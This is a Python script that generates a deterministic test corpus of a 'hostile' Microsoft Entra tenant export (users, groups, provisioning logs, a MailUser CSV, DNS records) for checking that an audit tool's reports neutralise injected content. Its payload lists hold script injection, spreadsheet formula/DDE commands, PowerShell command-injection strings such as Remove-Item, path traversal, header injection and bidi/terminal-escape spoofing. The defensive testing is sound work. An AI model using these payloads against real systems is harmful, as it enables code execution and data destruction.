"""Write ``tests/data/hostile/``: a Graph JSON export folder of a hostile tenant.

Run ``python tests/make_hostile_corpus.py`` to regenerate it (the output is deterministic and
committed; ``tests/test_hostile.py`` checks that the committed files equal what this script writes).

Everything a tenant controls is an attack surface of the reports: display names, addresses, UPNs,
group names, provisioning-log texts, a MailUser export and recorded DNS answers. The corpus puts
there script and markup injection, spreadsheet formulas and DDE, PowerShell subexpressions,
backticks and quote break-outs, 10,000-character strings, bidi overrides, zero-width, NUL and
control characters, emoji and mixed scripts; addresses with quotes, IDN, upper case and trailing
dots; missing, null and wrongly typed properties everywhere; duplicate ids; unknown
``@odata.type`` values. Every payload carries the marker ``PWN`` so a test can prove that none of
it ever reaches executable code (a formula, a script, a command) in any output.
"""

from __future__ import annotations

import csv
import io
import shutil
import sys
import uuid
from pathlib import Path
from typing import Any

import orjson

from audit.collectors.export import group_file_name

JSON = dict[str, Any]
HERE = Path(__file__).resolve().parent
TARGET = HERE / "data" / "hostile"
INITIAL = "hostile.onmicrosoft.com"
TENANT_ID = "0b1e7c4d-6a2f-4e8b-9c3d-5f7a1e2b4c60"
SP_ID = "5e2a7c10-3b4d-4f6e-8a9b-0c1d2e3f4a50"
GROUP_ID = "6f3b8d21-4c5e-4a7f-9b0c-1d2e3f4a5b60"
NESTED_ID = "7a4c9e32-5d6f-4b80-8c1d-2e3f4a5b6c70"
PATH_GROUP_ID = "../../PWN-G"
"""A group id that is a path: ``--save-raw`` must not write outside the export with it."""
MARKER = "PWN"

HOSTILE_TEXT: tuple[str, ...] = (
    "<script>alert('PWN-01')</script>",
    "\"><img src=x onerror=alert('PWN-02')>",
    "</script><script>alert('PWN-03')</script>",
    '=HYPERLINK("http://pwn-04.example/?q="&A1,"PWN-04")',
    "+cmd|' /C calc PWN-05'!A0",
    "@SUM(1+1)*cmd|' /C PWN-06'!A0",
    "-2+3+cmd|' /C PWN-07'!A0",
    "$(Remove-Item -Recurse C:\\PWN-08)",
    "`$(Stop-Process PWN-09)`; Remove-Item PWN-09",
    "'; Remove-Item C:\\PWN-10; '",
    "\u2018; Remove-Item C:\\PWN-11; \u2019",
    '"; Invoke-Expression PWN-12; "',
    "PWN-13 " + "A" * (10_000 - 7),
    "evil\u202egnp.PWN-14.exe",
    "zero\u200bwidth\u200c\u200djoin\ufeffPWN-15",
    "nul\x00byte bell\x07 escape\x1b[31mPWN-16",
    "emoji \U0001f9e8\U0001f469\u200d\U0001f4bb PWN-17 \U0001f3f3\ufe0f\u200d\U0001f308",
    "P\u0430ypal \u216dicrosoft \u0395\u03bb\u03bb\u03b7\u03bd\u03b9\u03ba\u03ac \u4e2d\u6587 "
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 PWN-18",
    "\r\n=1+1 PWN-19\n# line break",
    "{{ 7*7 }} {% raw %} ${PWN-20} <%= 7*7 %>",
    "\t=cmd|'/C PWN-21'!A0",
    "<svg/onload=alert('PWN-22')>",
    "javascript:alert('PWN-23')",
    "<!-- PWN-24 --><![CDATA[ x ]]>",
    "line\u2028sep\u2029PWN-25\u0085nel",
    "SIG # Begin signature block PWN-26",
    "#> Remove-Item PWN-27 <#",
    "-WhatIf:$false; Remove-MgUser PWN-28",
    "%0d%0aSet-Cookie: PWN-29=1 &lt;script&gt;",
    "\uff1dcmd|' /C PWN-30'!A0",
    "  =1+2 PWN-31",
    "\u00a0@PWN-32",
    "O'Brien & S\u00f6hne <b>GmbH</b> PWN-33",
    "\U0001d4d7\U0001d4ee\U0001d4f5\U0001d4f5\U0001d4f8 PWN-34 \u0301\u0301\u0301",
    "PWN-35 RT1;=1+1;x",  # a ';' locale's spreadsheet cuts cells at ';'
    "PWN-36 line\n=2+3\r\n@SUM(1)",  # line starts inside a cell
    "PWN-37\t=3+4;\t-5",
    "\u0085=5+5 PWN-38",
    "\u00ad=6+6 PWN-39",
    "\u061c+7 PWN-40",
    "\x1c=8+8 PWN-41",
    "\x1f-9+9 PWN-42",
    'PWN-43 a,"=1+1",b',
    "PWN-44 \x1b]0;PWN-TITLE\x07\x1b[2K\rforged line\u009b31m",  # terminal escapes
)
"""Display names, given names and surnames of the hostile guests."""

HOSTILE_ADDRESSES: tuple[str | None, ...] = (
    '"john smith PWN-A01"@partner-a.example',
    "o'brien.pwn-a02@partner-a.example",
    "JOHN.UPPER.PWN-A03@PARTNER-A.EXAMPLE",
    "trailing.dot.pwn-a04@partner-a.example.",
    "j\u00fcrgen.pwn-a05@b\u00fccher.example",
    "user.pwn-a06@xn--bcher-kva.example",
    "\uff46\uff55\uff4c\uff4c.pwn-a07@partner-b.example",
    "rtl\u202epwn-a08@partner-b.example",
    "zero\u200bwidth.pwn-a09@partner-b.example",
    "nul\x00pwn-a10@partner-b.example",
    '=HYPERLINK("x")PWN-A11@partner-c.example',
    "+cmd|'/C-PWN-A12@partner-c.example",
    "@SUM(1)PWN-A13@partner-c.example",
    "$(Remove-Item)PWN-A14@partner-c.example",
    "`whoami`;PWN-A15@partner-c.example",
    "a" * 300 + ".pwn-a16@partner-d.example",
    "pwn-a17." + "b" * (10_000 - 27) + "@partner-d.example",
    "double..dot.pwn-a18@partner-d.example",
    "nodomain.pwn-a19@",
    "@nolocal-pwn-a20.example",
    "no-at-sign-pwn-a21",
    "space in.pwn-a22@partner-d.example",
    "pwn-a23@[127.0.0.1]",
    "pwn-a24@-bad-.example",
    "pwn-a25@partner_e.example",
    "emoji\U0001f600.pwn-a26@partner-e.example",
    "pwn-a27@\U0001f600.example",
    "p\u0430ypal.pwn-a28@p\u0430ypal.example",
    "UPPER.PWN-A29@GMAIL.COM",
    "trailing.space.pwn-a30@partner-a.example ",
    "",
    "   ",
    None,
    "<script>alert('PWN-A34')</script>@partner-f.example",
    "pwn-a35@partner-f.example\r\nBcc: victim@partner-f.example",
)
"""Values of ``mail`` (and ``otherMails``, ``proxyAddresses``) of the address-case guests."""

HOSTILE_UPNS: tuple[Any, ...] = (
    f"noext.pwn-u01@{INITIAL}",
    f"a#EXT#b#EXT#pwn-u02@{INITIAL}",
    f"lower_pwn-u03.example#ext#@{INITIAL}",
    f"_#EXT#@{INITIAL}",
    f"=cmd|'-C-PWN-U05'!A0_evil.example#EXT#@{INITIAL}",
    f"<script>PWN-U06</script>_evil.example#EXT#@{INITIAL}",
    "pwn-u07_partner-a.example#EXT#@other-tenant.onmicrosoft.com",
    f"{'x' * 10_000}_pwn-u08.example#EXT#@{INITIAL}",
    None,
    12345,
    f"pwn-u11_partner-a.example#EXT#@{INITIAL.upper()}",
)
"""Values of ``userPrincipalName`` of the UPN-case guests."""


def _id(kind: str, n: int) -> str:
    return str(uuid.uuid5(uuid.NAMESPACE_URL, f"b2b-preflight-hostile/{kind}/{n}"))


def _mangled(address: str | None) -> str | None:
    """The guest UPN Entra would make from an address: ``local_domain#EXT#@initial``."""
    if not isinstance(address, str) or "@" not in address:
        return None
    local, _, domain = address.rpartition("@")
    return f"{local}_{domain}#EXT#@{INITIAL}"


def _guest(uid: str, name: Any, mail: Any, upn: Any = None, **extra: Any) -> JSON:
    user: JSON = {
        "@odata.type": "#microsoft.graph.user",
        "id": uid,
        "displayName": name,
        "givenName": name if isinstance(name, str) else None,
        "surname": f"Surname {MARKER}" if isinstance(name, str) else None,
        "userPrincipalName": upn if upn is not None else _mangled(mail),
        "mail": mail,
        "otherMails": [mail] if isinstance(mail, str) else [],
        "proxyAddresses": [f"SMTP:{mail}"] if isinstance(mail, str) else [],
        "userType": "Guest",
        "creationType": "Invitation",
        "externalUserState": "Accepted",
        "externalUserStateChangeDateTime": "2026-01-10T09:00:00Z",
        "identities": [
            {"signInType": "federated", "issuer": "ExternalAzureAD", "issuerAssignedId": None}
        ],
        "accountEnabled": True,
        "assignedLicenses": [],
        "createdDateTime": "2026-01-10T08:00:00Z",
        "mailNickname": (upn or _mangled(mail) or "x").split("@")[0]
        if isinstance(upn or _mangled(mail), str)
        else None,
        "signInActivity": {"lastSignInDateTime": "2026-10-01T08:00:00Z"},
    }
    user.update(extra)
    return user


def text_guests() -> list[JSON]:
    """One guest per hostile text, in every name field, with a plain valid address."""
    out = []
    for n, text in enumerate(HOSTILE_TEXT):
        mail = f"text{n:02d}@partner-a.example"
        out.append(_guest(_id("text", n), text, mail, givenName=text, surname=text[::-1]))
    return out


def address_guests() -> list[JSON]:
    """One guest per hostile address, in mail, otherMails, proxyAddresses and the UPN."""
    out = []
    for n, address in enumerate(HOSTILE_ADDRESSES):
        name = f"Address case {n:02d} {MARKER}"
        user = _guest(_id("address", n), name, address)
        if n % 3 == 0:  # hostile addresses also in the lists only
            user["otherMails"] = [address, f"=other{n}@partner-a.example", 42, None, {"x": 1}]
            user["proxyAddresses"] = [f"SMTP:{address}", f"smtp:alt{n}@partner-a.example",
                                      f"X500:/o=<script>PWN-X{n}</script>", "SMTP:", "sip:PWN", 7]  # fmt: skip
        out.append(user)
    return out


def upn_guests() -> list[JSON]:
    """Guests whose UPN is malformed, foreign, huge or not a string."""
    return [
        _guest(_id("upn", n), f"UPN case {n:02d} {MARKER}", f"upn{n:02d}@partner-b.example", upn)
        for n, upn in enumerate(HOSTILE_UPNS)
    ]


def shape_guests() -> list[JSON]:
    """Missing, null and wrongly typed properties; duplicate ids; unknown @odata.type values."""
    base = _id("shape", 0)
    nulls = {key: None for key in _guest(base, "x", "x@y.example")}
    return [
        {"id": _id("shape", 1)},  # only an id: no userType, nothing
        {**nulls, "id": _id("shape", 2), "userType": "Guest"},
        {
            "id": _id("shape", 3),
            "userType": "Guest",
            "displayName": 42,
            "mail": ["a@b.example"],
            "userPrincipalName": {"x": "y"},
            "otherMails": "single@partner-a.example",
            "proxyAddresses": "SMTP:single@partner-a.example",
            "accountEnabled": "true",
            "assignedLicenses": {"sku": 1},
            "createdDateTime": "yesterday",
            "externalUserState": 5,
            "identities": "not a list",
            "signInActivity": "never",
            "externalUserStateChangeDateTime": "2026-13-45T99:99:99Z",
        },
        {"userType": "Guest", "displayName": f"No id {MARKER}", "mail": "noid@partner-a.example"},
        {"id": None, "userType": "Guest", "displayName": f"Null id {MARKER}"},
        {"id": "", "userType": "Guest", "displayName": f"Empty id {MARKER}"},
        {"id": 12345, "userType": "Guest", "displayName": f"Numeric id {MARKER}"},
        _guest(
            _id("shape", 8),
            f"Unknown type {MARKER}",
            "type8@partner-a.example",
            **{"@odata.type": "#microsoft.graph.futureUser<script>PWN</script>"},
        ),
        _guest(
            _id("shape", 9),
            f"Invited member {MARKER}",
            "member9@partner-a.example",
            userType="Member",
        ),
        _guest(
            _id("shape", 10),
            f"Pending <b>{MARKER}</b>",
            "pending@partner-a.example",
            externalUserState="PendingAcceptance",
            accountEnabled=False,
            assignedLicenses=[{"skuId": "<script>PWN</script>"}],
        ),
        _guest(_id("shape", 11), f"Duplicate first {MARKER}", "dup@partner-a.example"),
        _guest(_id("shape", 11), f"Duplicate second {MARKER}", "dup2@partner-a.example"),
        _guest(
            _id("shape", 11).upper(), f"Duplicate upper-case id {MARKER}", "dup3@partner-a.example"
        ),
        _guest(_id("shape", 14), f"Same mail A {MARKER}", "same@partner-a.example"),
        _guest(_id("shape", 15), f"Same mail B {MARKER}", "SAME@PARTNER-A.EXAMPLE"),
        {
            **_guest(_id("shape", 16), f"Extra properties {MARKER}", "extra@partner-a.example"),
            "unknownProperty": "<script>PWN</script>",
            "@odata.context": "=cmd|' /C PWN'!A0",
        },
    ]


ALLIANCE = "bob-adatum-alliance.example"
"""A verified domain of the tenant that contains a guest's domain name as a word."""


def redaction_guests() -> list[JSON]:
    """Guests whose names are words of the tool's own sentences, or of a tenant domain: their
    redaction must neither garble the reports' texts nor keep them in clear."""
    return [
        _guest(
            _id("redaction", 0),
            "A Address",
            "a address@partner-d.example",
            givenName="A",
            surname="Address",
        ),
        _guest(
            _id("redaction", 1),
            "Bob Adatum",
            "bob@adatum.example",
            givenName="Bob",
            surname="Adatum",
        ),
    ]


def users() -> list[JSON]:
    """Every user of the corpus, in export order."""
    return [*text_guests(), *address_guests(), *upn_guests(), *shape_guests(), *redaction_guests()]


def organization() -> JSON:
    return {
        "value": [
            {
                "id": TENANT_ID,
                "displayName": f"Hostile <script>alert('{MARKER}-ORG')</script> & =cmd|' /C calc'!A0"
                "\x1b]0;PWN-TITLE\x07\x1b[2K\r\nforged: PWN-LINE\u202e",
                "verifiedDomains": [
                    {"name": INITIAL, "isInitial": True, "isDefault": False, "type": "Managed"},
                    {"name": "hostile.example", "isInitial": False, "isDefault": True},
                ],
            }
        ]
    }


def domains() -> JSON:
    return {
        "value": [
            {"id": INITIAL, "isVerified": True, "isInitial": True, "isDefault": False,
             "authenticationType": "Managed"},
            {"id": "Hostile.Example", "isVerified": True, "isInitial": False, "isDefault": True,
             "authenticationType": "Managed"},
            {"id": ALLIANCE, "isVerified": True, "isInitial": False, "isDefault": False,
             "authenticationType": "Managed"},
            {"id": f"<script>{MARKER}</script>.example", "isVerified": None, "isInitial": "no",
             "authenticationType": 7},
            {"id": None},
            {"@odata.type": "#microsoft.graph.futureDomain"},
        ]
    }  # fmt: skip


def service_principal() -> JSON:
    return {"value": [{"id": SP_ID, "appId": "8b5d0f43-6e7a-4c91-9d2e-3f4a5b6c7d80",
                       "displayName": "Atlassian Cloud", "servicePrincipalType": "Application"}]}  # fmt: skip


def assignments(all_users: list[JSON]) -> JSON:
    """Direct assignments of the address and UPN cases, a group, and hostile assignment rows."""
    rows: list[JSON] = [
        {"id": "g", "principalId": GROUP_ID, "principalType": "Group", "resourceId": SP_ID,
         "principalDisplayName": f"Partners <img src=x onerror=alert('{MARKER}-G')>"},
        {"id": "bad1", "principalId": None, "principalType": "Group", "resourceId": SP_ID},
        {"id": "bad2", "principalId": f"<script>{MARKER}</script>", "principalType": "<b>x</b>",
         "resourceId": SP_ID, "principalDisplayName": f"=cmd|' /C {MARKER}'!A0"},
        {"id": "bad3", "principalType": "ServicePrincipal", "principalId": _id("sp", 1)},
        {"id": "path", "principalId": PATH_GROUP_ID, "principalType": "Group", "resourceId": SP_ID,
         "principalDisplayName": f"Path group {MARKER}"},
    ]  # fmt: skip
    for n, user in enumerate(u for u in all_users if "Address case" in str(u.get("displayName"))):
        if n % 2 == 0:
            rows.append({"id": f"a{n}", "principalId": user["id"], "principalType": "User",
                         "resourceId": SP_ID, "principalDisplayName": user["displayName"]})  # fmt: skip
    for user in upn_guests():
        rows.append({"id": f"u{user['id']}", "principalId": user["id"], "principalType": "User",
                     "resourceId": SP_ID, "principalDisplayName": user["displayName"]})  # fmt: skip
    return {"value": rows}


def group_members() -> dict[str, JSON]:
    """The assigned group (text guests, a nested group, unknown types) and the nested group."""
    direct: list[JSON] = [
        {"@odata.type": "#microsoft.graph.user", "id": u["id"], "displayName": u["displayName"],
         "userPrincipalName": u["userPrincipalName"]}
        for u in text_guests()[::2]
    ]  # fmt: skip
    direct += [
        {"@odata.type": "#microsoft.graph.group", "id": NESTED_ID,
         "displayName": f"Nested <script>{MARKER}</script>"},
        {"@odata.type": "#microsoft.graph.orgContact", "id": _id("contact", 1),
         "displayName": f"=cmd|' /C {MARKER}'!A0"},
        {"@odata.type": f"#evil.<script>{MARKER}</script>", "id": _id("evil", 1)},
        {"@odata.type": None, "id": _id("shape", 10)},
        {"displayName": f"No id and no type {MARKER}"},
        {"@odata.type": "#microsoft.graph.device", "id": 7},
    ]  # fmt: skip
    nested = [
        {"@odata.type": "#microsoft.graph.user", "id": u["id"], "displayName": u["displayName"]}
        for u in text_guests()[1::2]
    ]
    path = [{"@odata.type": "#microsoft.graph.user", "id": u["id"], "displayName": u["displayName"]}
            for u in redaction_guests()]  # fmt: skip
    return {
        GROUP_ID: {"value": direct},
        NESTED_ID: {"value": nested},
        PATH_GROUP_ID: {"value": path},
    }


def schema() -> JSON:
    """The job schema: the default Atlassian mappings plus hostile text in extra ones."""

    def mapping(target: str, expression: str, priority: int = 0) -> JSON:
        return {"targetAttributeName": target, "matchingPriority": priority, "defaultValue": "",
                "flowType": "Always",
                "source": {"expression": expression, "name": target, "type": "Function",
                           "parameters": []}}  # fmt: skip

    attributes = [
        mapping("userName", "[userPrincipalName]", 1),
        mapping('emails[type eq "work"].value', "[mail]"),
        mapping("name.givenName", f"Join(\" \", \"<img src=x onerror=alert('{MARKER}-S')>\", [givenName])"),
        mapping("title", f"Append([displayName], \"=HYPERLINK(\"\"http://{MARKER}\"\")\")"),
    ]  # fmt: skip
    objects = [{"enabled": True, "sourceObjectName": "User", "targetObjectName": "User",
                "name": f"Users <script>{MARKER}</script>", "attributeMappings": attributes}]  # fmt: skip
    return {"id": "atlassianCloud", "synchronizationRules": [
        {"id": "r1", "name": "USER_OUTBOUND", "objectMappings": objects}]}  # fmt: skip


def provisioning_logs() -> JSON:
    """Log entries with hostile texts, odd statuses and missing parts."""
    entries: list[JSON] = []
    for n, user in enumerate(text_guests()[:12]):
        entries.append({
            "id": f"log{n}", "activityDateTime": f"2026-11-{10 + n:02d}T10:00:00Z",
            "provisioningAction": "create" if n % 2 else "<script>PWN</script>",
            "provisioningStatusInfo": {"status": ["failure", "skipped", "success", "=cmd"][n % 4],
                                       "errorInformation": {"errorCode": HOSTILE_TEXT[n],
                                                            "reason": HOSTILE_TEXT[-1 - n]}},
            "sourceIdentity": {"id": user["id"], "displayName": user["displayName"]},
            "jobId": "atlassianCloud.x",
        })  # fmt: skip
    entries += [
        {"id": "broken1", "activityDateTime": "not a date", "provisioningStatusInfo": None},
        {"id": "broken2", "sourceIdentity": "not an object", "provisioningStatusInfo": "x"},
        {"activityDateTime": None},
    ]
    return {"value": entries}


MAILUSER_COLUMNS = (
    "DisplayName", "UserPrincipalName", "ExternalDirectoryObjectId", "PrimarySmtpAddress",
    "ExternalEmailAddress", "EmailAddresses", "HiddenFromAddressListsEnabled", "RecipientTypeDetails",
)  # fmt: skip


def mailusers_csv() -> bytes:
    """``Export-Csv`` style (BOM, all quoted, CRLF) with hostile values and a few broken rows:
    the first row's last field misses its closing quote (read leniently, it swallowed the second
    row), the third guest's id is written ``{GUID}``."""
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, quoting=csv.QUOTE_ALL, lineterminator="\r\n")
    writer.writerow(MAILUSER_COLUMNS)
    for n, user in enumerate([*text_guests(), *address_guests()]):
        mail = user["mail"] if isinstance(user["mail"], str) else ""
        upn = user["userPrincipalName"] if isinstance(user["userPrincipalName"], str) else ""
        addresses = f"SMTP:{mail};smtp:{upn}" if n % 2 else "{" + f"SMTP:{mail}, smtp:{upn}" + "}"
        object_id = "{" + user["id"].upper() + "}" if n == 2 else user["id"]
        writer.writerow([user["displayName"], upn, object_id, mail, f"SMTP:{mail}", addresses,
                         "=1+1" if n % 5 == 0 else "True", "GuestMailUser"])  # fmt: skip
        if n == 0:  # the closing quote of the row's last field is lost
            buffer.seek(buffer.tell() - 3)
            buffer.truncate()
            buffer.write("\r\n")
    writer.writerow([f"Bad id {MARKER}", "x", f"<script>{MARKER}</script>", "a@b", "SMTP:a@b", "",
                     "True", "GuestMailUser"])  # fmt: skip
    writer.writerow([f"Too few fields {MARKER}", "x"])
    buffer.write(f'"Unclosed quote {MARKER},"x",\r\n')
    return b"\xef\xbb\xbf" + buffer.getvalue().encode("utf-8", "surrogatepass")


def dns() -> JSON:
    """Recorded answers for the guests' domains, with hostile TXT and MX data."""

    def answer(state: str, records: list[str]) -> JSON:
        return {"state": state, "records": records, "error": None}

    unqueried = answer("not_queried", [])
    hostile_txt = [f"atlassian-domain-verification=<script>{MARKER}</script>",
                   f"=cmd|' /C {MARKER}'!A0", "v=spf1 -all " + "x" * 3000]  # fmt: skip
    domains = {
        "partner-a.example": {"TXT": answer("found", hostile_txt),
                              "MX": answer("found", [f"10 mx.{MARKER.lower()}.partner-a.example."]),
                              "A": unqueried, "AAAA": unqueried, "nxdomain": False},
        "partner-b.example": {"TXT": answer("absent", []), "MX": answer("found", ["0 ."]),
                              "A": unqueried, "AAAA": unqueried, "nxdomain": False},
        "partner-c.example": {"TXT": answer("unknown", []), "MX": answer("unknown", []),
                              "A": answer("unknown", []), "AAAA": answer("unknown", []),
                              "nxdomain": False},
        "xn--bcher-kva.example": {"TXT": answer("found", ["atlassian-domain-verification=theirs"]),
                                  "MX": answer("found", ["10 mail.xn--bcher-kva.example."]),
                                  "A": unqueried, "AAAA": unqueried, "nxdomain": False},
        "partner-d.example": {"TXT": answer("absent", []), "MX": answer("absent", []),
                              "A": answer("absent", []), "AAAA": answer("absent", []),
                              "nxdomain": True},
        "gmail.com": {"TXT": answer("found", ["v=spf1 redirect=_spf.google.com"]),
                      "MX": answer("found", ["5 gmail-smtp-in.l.google.com."]),
                      "A": unqueried, "AAAA": unqueried, "nxdomain": False},
    }  # fmt: skip
    return {"format": 1, "domains": domains}


def _write(path: Path, document: Any) -> None:
    path.write_bytes(orjson.dumps(document, option=orjson.OPT_INDENT_2) + b"\n")


def write_corpus(folder: Path) -> Path:
    """Write the whole corpus into ``folder`` (replacing what is there)."""
    if folder.exists():
        shutil.rmtree(folder)
    (folder / "groupMembers").mkdir(parents=True)
    everyone = users()
    half = len(everyone) // 2
    _write(folder / "organization.json", organization())
    _write(folder / "domains.json", domains())
    _write(folder / "users.0001.json", {"value": everyone[:half], "@odata.nextLink": "x"})
    _write(folder / "users.0002.json", {"value": everyone[half:]})
    _write(folder / "servicePrincipal.json", service_principal())
    _write(folder / "appRoleAssignedTo.json", assignments(everyone))
    for group_id, members in group_members().items():
        _write(folder / "groupMembers" / group_file_name(group_id), members)
    _write(folder / "synchronizationSchema.json", schema())
    _write(folder / "provisioningLogs.json", provisioning_logs())
    _write(folder / "dns.json", dns())
    (folder / "mailusers.csv").write_bytes(mailusers_csv())
    return folder


def counts() -> dict[str, int]:
    """How many hostile inputs the corpus holds (quoted in the README)."""
    return {
        "hostile_texts": len(HOSTILE_TEXT),
        "hostile_addresses": len(HOSTILE_ADDRESSES),
        "hostile_upns": len(HOSTILE_UPNS),
        "shape_cases": len(shape_guests()),
        "redaction_cases": len(redaction_guests()),
        "users": len(users()),
    }


if __name__ == "__main__":
    out = Path(sys.argv[1]) if len(sys.argv) > 1 else TARGET
    write_corpus(out)
    print(f"wrote {out}: {counts()}")
